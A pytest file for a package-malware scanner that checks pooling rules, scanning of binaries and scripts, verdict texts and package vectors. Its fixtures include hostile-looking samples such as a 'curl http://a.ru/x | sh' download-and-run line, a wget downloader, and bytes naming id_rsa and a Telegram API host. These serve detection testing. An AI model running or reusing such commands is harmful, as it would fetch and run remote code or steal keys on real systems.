"""Pooling rules, files beside the source code, verdict texts and vectors of packages on small cases."""

import numpy as np
import pytest
from pyspark.sql import functions as F

from pkgscope.functions import decision, scan
from pkgscope.operators import binaries, pooling, vectors

PLAIN = {"base_rate": 0.5, "sim_flag": 0.6, "classifier_threshold": 0.8, "review_threshold": 0.3, "strict_threshold": 0.98, "both": {"coef": [0.0, 6.0], "intercept": 0.0}, "classifier_only": {"coef": [1.0], "intercept": 0.0}}


def test_every_column_has_one_rule():
    named = [*pooling.SUMS, *pooling.SUMS_AS_NAMED, *pooling.GREATEST, *pooling.ANY]
    assert len(named) == len(set(named))
    made = set(named) | {"exfil_total", "pkg_n_files", "worst_file_categories", "worst_file_danger", "n_danger_files", "worst_file_suspicious_per_kloc"}
    assert set(pooling.CAPABILITY) <= made and len(pooling.CAPABILITY) == len(set(pooling.CAPABILITY)) == 38
    assert set(pooling.FILE_KINDS) == set(scan.DANGER_WEIGHTS) and len(scan.HIT_WEIGHTS) == 17


def test_pooling_of_files(spark):
    rows = [("p", 2, 1, 0, 10, True, 1), ("p", 0, 0, 3, 90, False, 4), ("p", None, None, None, None, None, None), ("q", 0, 0, 0, 0, False, 0)]
    table = spark.createDataFrame(rows, "package string, exec_calls long, char_code_build long, exfil_ssh long, loc long, is_setup boolean, autorun_categories long")
    got = {r["package"]: r.asDict() for r in pooling.pool(table, ["package"]).collect()}
    p, q = got["p"], got["q"]
    assert (p["call_exec"], p["obf_char_code_build"], p["exfil_total"], p["pkg_loc"], p["install_has_setup_py"], p["autorun_categories"], p["pkg_n_files"]) == (2, 1, 3, 100, 1, 4, 3)
    assert p["worst_file_categories"] == 2 and p["worst_file_danger"] == 7 and p["n_danger_files"] == 0
    # Ten lines count as fifty, a hundred lines as a tenth of a thousand.
    assert p["worst_file_suspicious_per_kloc"] == 60.0 and p["call_exec_per_kloc"] == 20.0 and p["exfil_total_per_kloc"] == 30.0
    assert q["call_exec_per_kloc"] == 0.0 and q["worst_file_suspicious_per_kloc"] == 0.0 and q["install_has_setup_py"] == 0
    pooled = pooling.pool(table, ["package"])
    able = {r["package"]: r["c"] for r in pooled.select("package", pooling.capabilities(pooled).alias("c")).collect()}
    assert able == {"p": ["exfil_total", "obf_char_code_build"], "q": []}


def test_files_beside_the_source(spark):
    big = b"x" * 50 + b"\n" + b"curl http://a.ru/x | sh\n"
    rows = [
        ("p", "a/native.cpython.so", b"\x00\x01api.telegram.org\xffhttp://b.top/ 9.9.9.9 1.1.1.1 999.1.1.1 id_rsa"), ("p", "b/native.pyx", b""), ("p", "c/__init__.pyd", b""), ("p", "d/lone.so", big),
        ("p", "x.pth", b"import os\nimport\tsys\n# import\nx = exec(y)\nimportant\n"), ("p", "run.sh", b"wget http://c -O x"), ("p", "docs/run.sh", b"wget http://c -O x"), ("p", "big.ps1", b"iwr " + b" " * 2_000_000),
        ("q", "only.txt", None), ("r", "native.so", b""),
    ]
    table = spark.createDataFrame([(p, f, None if c is None else bytearray(c)) for p, f, c in rows], "package string, path string, content binary")
    got = {r["package"]: r.asDict() for r in binaries.other_files(table).collect()}
    assert got["p"] == {"package": "p", "bin_orphan_modules": 2, "bin_compiled_init": 1, "bin_net_indicators": 4, "bin_url_count": 2, "bin_exfil_refs": 1, "bin_shell_cmd": 1, "pth_code_lines": 3, "script_downloader": 1}
    assert set(got["q"].values()) == {"q", 0} and got["r"]["bin_orphan_modules"] == 1
    cut = {r["package"]: r.asDict() for r in binaries.other_files(table, limit=60).collect()}
    assert cut["p"]["bin_shell_cmd"] == 0
    sizes = spark.createDataFrame([("p", f"{i}.so", 10) for i in range(5)] + [("p", "a.py", 99)], "package string, path string, size long")
    assert sorted(r["path"] for r in binaries.within_budget(sizes, 6, 13).collect()) == ["0.so", "1.so", "2.so"]


@pytest.mark.parametrize("gate, prob, share, capable, said", [
    (True, .99, .1, False, "sure without capability"), (True, .99, .1, True, None), (True, .9, .1, False, "flagged without capability"), (True, .5, .9, True, "review"),
    (True, .1, .7, True, "similar only"), (True, .1, .5, True, "together"), (True, .1, .0, True, None), (False, .99, .1, True, "sure alone"), (False, .99, .9, True, None),
    (False, .5, .1, True, "review"), (False, .5, .9, True, None), (False, .9, .1, False, None), (False, .1, .5, None, "together"), (True, .1, None, None, None), (True, .85, None, None, None),
])
def test_reasons(spark, gate, prob, share, capable, said):
    table = spark.createDataFrame([(prob, share, capable)], "p double, s double, c boolean")
    got = table.select(decision.basis(F.col("p"), F.col("s"), F.col("c"), PLAIN | ({"capability_gate": True} if gate else {}))).first()[0]
    assert got == (decision.BASIS_ALONE if share is None else decision.BASIS_BOTH) + (decision.SAID[said] if said else "")


def test_vectors_of_packages_and_file_pairs(spark):
    rng = np.random.default_rng(6)
    tokens = [(p, f"{p}/{f}", [float(x) for x in rng.normal(size=4)]) for p in range(12) for f in range(1 + p % 3) for _ in range(2)] + [(12, "12/0", [0.0] * 4), (13, "13/0", None)]
    files, packages = vectors.package_vectors(spark.createDataFrame(tokens, "package long, file string, v array<double>"), "file", "package", "v", 4)
    raw = {}
    for p, f, v in tokens:
        if v is not None:
            raw.setdefault(p, {}).setdefault(f, []).append(v)
    mean = {p: {f: np.mean(v, axis=0) for f, v in of.items()} for p, of in raw.items()}
    unit = lambda v: v / max(np.linalg.norm(v), 1e-9)
    whole = {p: unit(np.mean(list(of.values()), axis=0)) for p, of in mean.items()}
    got = {r["package"]: r["v"] for r in packages.collect()}
    assert set(got) == set(whole) and all(np.allclose(got[p], whole[p]) for p in whole) and got[12] == [0.0] * 4
    sided = packages.withColumn("bad", F.when(F.col("package") != 11, F.col("package") % 2 == 0))
    near = {(r["query_id"], r["side"]): r["vec_id"] for r in vectors.closest_by_side(sided, packages.where("package < 3"), "package", "v", F.col("bad")).collect()}
    for q in range(3):
        for side in (True, False):
            own = [p for p in whole if p != q and p != 11 and (p % 2 == 0) == side]
            assert near[q, side] == min(own, key=lambda p: (-round(float(whole[q] @ whole[p]), 12), p))
    matches = spark.createDataFrame([(2, True, 5), (12, False, 0)], "query_id long, side boolean, vec_id long")
    pairs = {r["query_id"]: r for r in vectors.file_pairs(matches, files, "package", "file", "v").collect()}
    best = max(((float(unit(a) @ unit(b)), f, g) for f, a in mean[2].items() for g, b in mean[5].items()))
    assert (pairs[2]["query_file"], pairs[2]["known_file"]) == best[1:] and abs(pairs[2]["similarity"] - best[0]) < 1e-9 and pairs[12]["similarity"] == 0.0
    one = vectors.file_pairs(matches, files, "package", "file", "v", 1).where("query_id = 2").first()
    assert (one["query_file"], one["known_file"]) == ("2/0", "5/0")
